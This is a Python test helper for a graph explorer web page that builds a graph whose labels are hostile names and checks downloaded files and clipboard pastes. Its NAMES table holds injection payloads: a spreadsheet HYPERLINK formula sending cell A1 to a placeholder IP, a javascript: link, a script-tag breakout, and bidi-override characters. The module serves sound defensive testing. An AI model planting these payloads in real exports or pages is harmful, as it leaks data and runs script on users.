"""Taking things out of the explorer page: downloads, the clipboard; and names that try to do harm."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

from browser import Browser
from pages import HOSTILE, show, small_graph
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.keys import Keys

from jbgraph.graph import Graph

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"看")'
NAMES = {
    "formula": FORMULA,
    "wide": "＋1+1",
    "cells": "a,\"b\"\n'c'\t;d",
    "marks": "[x](javascript:alert(1)) *b* _i_ `c` | # <b> &amp;",
    "hebrew": "שלום עולם",
    "override": "\u202e\u2066反过来",
    "control": "铃\u0007声",
    "markup": "</text></svg><script>window.pwned = 3</script>",
}
"""Names of things of the town that serve its goal, by their identifiers."""


def hostile_graph(folder: Path) -> Graph:
    """Return the small graph with a measure for each of NAMES."""
    small_graph(folder)
    escaped = {key: "".join(f"\\u{ord(sign):04X}" for sign in name) for key, name in NAMES.items()}
    things = "\n".join(f'town:{key} a jb:Measure ; skos:prefLabel "{name}"@zh .' for key, name in escaped.items())
    said = " ".join(f"town:{key} jb:serves town:goal ." for key in NAMES)
    (folder / "data" / "hostile.trig").write_text(
        f"""
        @prefix jb: <https://w3id.org/jbgraph/ontology#> .
        @prefix skos: <http://www.w3.org/2004/02/skos/core#> .
        @prefix town: <https://w3id.org/jbgraph/town/> .
        {things}
        <https://w3id.org/jbgraph/town/plan/s1> {{ {said} }}
        """,
        "utf-8",
    )
    return Graph.open(folder / "data", sources=folder / "sources")


def all_names() -> set[str]:
    return {*NAMES.values(), HOSTILE}


def downloaded(browser: Browser, folder: Path, take: Callable[[], None]) -> Path:
    """Do what makes the browser save a file, and return the file once it is whole."""
    folder.mkdir(exist_ok=True)
    before = set(folder.iterdir())
    browser.driver.execute_cdp_cmd(
        "Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(folder), "eventsEnabled": False}
    )
    take()
    for _ in range(200):
        new = [file for file in set(folder.iterdir()) - before if file.suffix != ".crdownload"]
        if new and new[0].stat().st_size:
            return new[0]
        time.sleep(0.05)
    raise AssertionError("nothing was saved")


def pasted(browser: Browser) -> str:
    """Paste into a text field of the page, and return what is then in it."""
    browser.run(
        """const field = document.createElement('textarea');
        field.id = 'pasted';
        document.body.append(field);
        field.focus();"""
    )
    ActionChains(browser.driver).key_down(Keys.CONTROL).send_keys("v").key_up(Keys.CONTROL).perform()
    browser.until("document.getElementById('pasted').value !== ''", 5)
    return str(browser.run("const f = document.getElementById('pasted'); const v = f.value; f.remove(); return v"))


def expand(browser: Browser, name: str) -> None:
    """Find a thing and put its neighbours on the picture."""
    show(browser, name)
    if browser.find("#expand").is_enabled():
        browser.click("#expand")


def keep(browser: Browser, what: str) -> None:
    """Choose an entry of the menu."""
    browser.click("#keep")
    browser.click(f"#keep-{what}")
